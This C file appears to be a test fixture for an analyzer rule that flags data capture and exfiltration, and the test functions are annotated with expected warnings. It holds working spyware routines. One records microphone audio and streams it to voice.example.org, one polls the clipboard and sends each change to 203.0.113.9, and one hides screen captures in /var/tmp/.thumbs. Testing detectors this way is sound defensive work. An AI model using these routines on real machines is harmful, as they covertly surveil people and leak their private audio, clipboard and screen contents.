// What a command records, as its standard output.
#include <netdb.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int call(const char *host, const char *port) {
    struct addrinfo *list;
    if (getaddrinfo(host, port, NULL, &list))
        return -1;
    int out = socket(list->ai_family, SOCK_STREAM, 0);
    int failed = connect(out, list->ai_addr, list->ai_addrlen);
    freeaddrinfo(list);
    return failed ? -1 : out;
}

void bad_sound(void) {
    char block[2048];
    size_t got;
    FILE *in = popen("arecord -q -d 60 -f S16_LE -r 16000 -t raw 2>/dev/null", "r");
    int out = call("voice.example.org", "5555");
    while (in && (got = fread(block, 1, sizeof block, in)) > 0)
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/capture]}}
        send(out, block, got, 0);
}

static struct {
    char text[4096], before[4096];
} board;

static void look(const char *command) {
    FILE *in = popen(command, "r");
    memset(board.text, 0, sizeof board.text);
    if (!in)
        return;
    fgets(board.text, sizeof board.text, in);
    pclose(in);
}

void bad_clipboard(void) {
    int out = call("203.0.113.9", "443");
    for (;;) {
        look("/usr/bin/xclip -selection clipboard -o");
        if (strcmp(board.text, board.before) != 0)
            // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/capture]}}
            write(out, board.text, strlen(board.text));
        strcpy(board.before, board.text);
        sleep(2);
    }
}

void bad_screen(void) {
    char block[512];
    FILE *in = popen("DISPLAY=:0 import -silent -window root png:-", "r");
    FILE *kept = fopen("/var/tmp/.thumbs", "a");
    while (in && kept && fread(block, 1, sizeof block, in) > 0)
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/capture]}}
        fwrite(block, 1, sizeof block, kept);
}

/* How long it has been up. */
void good_uptime(void) {
    char block[2048];
    size_t got;
    FILE *in = popen("uptime; xclip -h", "r");
    int out = call("status.example.org", "5555");
    while (in && (got = fread(block, 1, sizeof block, in)) > 0)
        send(out, block, got, 0);
}

/* A recorder: whoever starts it says where to. */
int main(int argc, char **argv) {
    char block[2048];
    size_t got;
    if (argc < 3)
        return 2;
    FILE *in = popen("arecord -q -t wav", "r");
    FILE *kept = fopen(argv[1], "w");
    while (in && kept && (got = fread(block, 1, sizeof block, in)) > 0)
        fwrite(block, 1, got, kept);
    return 0;
}
